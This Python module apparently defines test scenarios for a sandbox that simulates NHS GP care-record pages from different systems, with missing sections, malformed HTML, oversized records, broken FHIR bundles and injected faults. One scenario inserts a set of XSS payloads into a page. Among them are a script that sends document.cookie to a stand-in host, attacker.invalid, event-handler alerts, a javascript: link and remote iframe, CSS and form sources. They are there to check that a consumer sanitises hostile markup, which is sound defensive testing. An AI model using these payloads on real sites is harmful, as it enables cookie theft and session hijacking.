"""What differs at some practices: other systems, other words, broken and hostile pages (HT-P02 to HT-P07)."""

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import date
from typing import Any

from bridge.sandbox.care_record.content import PAGES
from bridge.sandbox.care_record.pages import NOTHING_RECORDED, Page, PageRow, PageTable, Style
from bridge.sandbox.control.faults import FaultKind, InjectedFault

Json = dict[str, Any]

_TRANSFER = date(2025, 10, 14)
_LARGE_BYTES = 2_000_000


def _as_held(page: Page) -> Page:
    return page


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """How one patient's sections differ from everybody's.

    Attributes:
        name: of the scenario.
        nhs_number, reason: of a scenario of its own; empty for one that is there for other things too.
        change: what is done to a page before it is rendered.
        style: how it is rendered.
        spoil: what is done to the finished Bundle.
        faults: by section.
    """

    name: str
    nhs_number: str = ""
    reason: str = ""
    change: Callable[[Page], Page] = _as_held
    style: Style = field(default_factory=Style)
    spoil: Callable[[Json], None] | None = None
    faults: Mapping[str, InjectedFault] = field(default_factory=dict)


def _each(**changes: Any) -> Callable[[Page], Page]:
    return lambda page: page.each(lambda table: replace(table, **changes))


def _absences(page: Page) -> Page:
    """Every way of having nothing to show, one in each section, and three that must not be taken for none."""
    absence = {
        "REF": "access_denied",
        "OBS": "retrieval_not_supported",
        "IMM": NOTHING_RECORDED,
        "ADM": "not_stored",
        "ENC": NOTHING_RECORDED,
        "CLI": NOTHING_RECORDED,
        "PRB": NOTHING_RECORDED,
    }.get(page.code)
    if page.code == "CLI":
        page = replace(page, transfer=_TRANSFER)
    return page.each(
        lambda table: replace(
            table, absence=absence, withheld=page.code == "ENC" or table.id == "prb-tab-act"
        )
    )


def _emis_like(page: Page) -> Page:
    """Administrative items unknown, every allergy under Current."""
    if page.code == "ADM":
        return _each(absence="not_stored")(page)
    if page.code == "ALL":
        current, historical = page.tables
        rows = (*current.rows, *(PageRow((row.cells[0], row.cells[2])) for row in historical.rows))
        return replace(
            page,
            tables=(replace(current, rows=rows), replace(historical, absence="retrieval_not_supported")),
            notes=("All allergies are shown under Current, whether or not they have ended",),
        )
    return page


def _vision_like(page: Page) -> Page:
    """No history of allergies, no Range of observations, and Emergency Codes switched off."""
    if page.code == "SUM":
        return replace(page, tables=page.tables[1:])
    if page.code == "ALL":
        current, historical = page.tables
        return replace(page, tables=(current, replace(historical, absence="not_stored")))
    return _without(page, "Range") if page.code == "OBS" else page


def _without(page: Page, column: str) -> Page:
    def drop(table: PageTable) -> PageTable:
        at = table.columns.index(column)
        rows = tuple(replace(row, cells=row.cells[:at] + row.cells[at + 1 :]) for row in table.rows)
        return replace(table, columns=table.columns[:at] + table.columns[at + 1 :], rows=rows)

    return page.each(drop)


def _older(page: Page) -> Page:
    page = replace(_each(withheld=True)(page), transfer=_TRANSFER)
    return _without(page, "Range") if page.code == "OBS" else page


def _more_columns(page: Page) -> Page:
    """Columns that the specification does not name, two with the same heading, one with none; and no id."""

    def widen(table: PageTable) -> PageTable:
        columns = (*table.columns, "Recorded By", "Details", "")
        rows = tuple(replace(row, cells=(*row.cells, "Dr N Gilbert", "Seen by", "x")) for row in table.rows)
        return replace(table, columns=columns, rows=rows, id="")

    return page.each(widen)


def _large(page: Page) -> Page:
    if page.code != "ENC":
        return page
    (table,) = page.tables
    text = "Reviewed in surgery; nothing of note. " * 25
    one = PageRow((date(2020, 1, 1), "Sandbox Medical Centre, surgery", text), date(2020, 1, 1))
    return replace(page, tables=(replace(table, rows=(one,) * (_LARGE_BYTES // len(text))),))


def _malformed(markup: str) -> str:
    """As real pages are: a table in a paragraph, headings outside a row, cells left open, named entities."""
    markup = markup.replace(' xmlns="http://www.w3.org/1999/xhtml"', "")
    markup = markup.replace("<table", "<p><table").replace("</table>", "</table></p>")
    markup = markup.replace("<thead><tr>", "<thead>").replace("</tr></thead>", "</thead>")
    markup = markup.replace("</td></tr>", "</tr>").replace("<br/>", "<br>").replace("&#176;", "&deg;")
    return re.sub(r"<td>([^<]*)</td>", r"<td>\1", markup, count=3)


_HOSTILE = (
    "<script>fetch('https://attacker.invalid/'+document.cookie)</script>"
    '<img src="https://attacker.invalid/pixel.png" onerror="alert(1)"/>'
    '<iframe src="https://attacker.invalid/"></iframe>'
    '<object data="https://attacker.invalid/x"></object>'
    '<svg onload="alert(1)"></svg>'
    "<style>body{background:url(https://attacker.invalid/s)}</style>"
    '<link rel="stylesheet" href="https://attacker.invalid/s.css"/>'
    '<form action="https://attacker.invalid/"><input name="q"/></form>'
    '<p onclick="alert(1)" style="background:url(\'https://attacker.invalid/b\')">'
    'Reported by <a href="javascript:alert(1)">Dr Gilbert</a></p>'
)


def _hostile(markup: str) -> str:
    """The same page with everything in it that must neither run nor be fetched; its words stay words."""
    return markup.replace("</h1>", f"</h1>{_HOSTILE}", 1)


def _careless(bundle: Json) -> None:
    """As some systems send it: a custodian who is nobody, blank lines, no practitioner, things unheard of."""
    bundle["unheardOf"] = {"x": [1]}
    bundle["entry"].insert(0, {"resource": {"resourceType": "Spaceship", "id": "1"}})
    bundle["entry"] = [
        entry for entry in bundle["entry"] if entry["resource"]["resourceType"] != "Practitioner"
    ]
    for entry in bundle["entry"]:
        resource = entry["resource"]
        if resource["resourceType"] == "Composition":
            resource["custodian"] = {"reference": "Hl7.Fhir.Model.Organization"}
            resource["section"][0]["unheardOf"] = True
        if resource["resourceType"] == "Patient":
            resource["address"] = [{"line": ["", "1 Trevelyan Square", " "], "district": "0"}]


def _other_section(bundle: Json) -> None:
    for entry in bundle["entry"]:
        if entry["resource"]["resourceType"] == "Composition":
            entry["resource"]["section"][0]["code"]["coding"][0]["code"] = "OBS"


_REFUSED = InjectedFault(FaultKind.STATUS, status=501, code="NOT_IMPLEMENTED")
_FAILED_ONCE = InjectedFault(FaultKind.STATUS, times=1)

CASES = {
    case.name: case
    for case in (
        Case(name="empty_record", change=_each(rows=())),
        Case(name="withheld_items", change=_each(rows=(), withheld=True)),
        Case(name="partly_withheld", change=_each(withheld=True)),
        Case(name="record_in_transit", change=lambda page: replace(page, transfer=_TRANSFER)),
        Case(
            name="html_absences",
            nhs_number="9992000015",
            reason="care record: nothing recorded, not supported, denied, not stored",
            change=_absences,
        ),
        Case(
            name="html_emis_like",
            nhs_number="9992000023",
            reason="care record: no administrative items, all allergies current",
            change=_emis_like,
            style=Style(in_cells=True),
        ),
        Case(
            name="html_vision_like",
            nhs_number="9992000031",
            reason="care record: no history of allergies, no ranges, no emergency codes",
            change=_vision_like,
        ),
        Case(
            name="html_default_period",
            nhs_number="9992000120",
            reason="care record: a year of items unless a period is asked for",
            style=Style(default_start=date(2024, 11, 20)),
        ),
        Case(
            name="html_older",
            nhs_number="9992000058",
            reason="care record: banners and dates from before 0.7.2",
            change=_older,
            style=Style(older=True),
        ),
        Case(
            name="html_malformed",
            nhs_number="9992000066",
            reason="care record: broken markup, dangling references",
            style=Style(finish=_malformed),
            spoil=_careless,
        ),
        Case(
            name="html_hostile",
            nhs_number="9992000074",
            reason="care record: scripts, event handlers, remote pictures",
            style=Style(finish=_hostile),
        ),
        Case(
            name="html_columns",
            nhs_number="9992000082",
            reason="care record: columns that nobody named",
            change=_more_columns,
        ),
        Case(
            name="html_large",
            nhs_number="9992000090",
            reason="care record: two megabytes of encounters",
            change=_large,
        ),
        Case(
            name="html_other_section",
            nhs_number="9992000104",
            reason="care record: every answer is about observations",
            spoil=_other_section,
        ),
        Case(
            name="html_partial",
            nhs_number="9992000112",
            reason="care record: referrals refused, observations fail once",
            faults={"REF": _REFUSED, "OBS": _FAILED_ONCE},
        ),
    )
}
"""By name of the scenario."""


def section_faults() -> Iterator[tuple[str, InjectedFault]]:
    """The faults that are on at the start, each with its key."""
    for case in CASES.values():
        yield from ((f"{case.nhs_number}/{section}", fault) for section, fault in case.faults.items())


def page_of(name: str, section: str) -> tuple[Page, Case]:
    """The page of a scenario's section, and how it is to be rendered."""
    case = CASES.get(name) or Case(name=name)
    return case.change(PAGES[section]), case
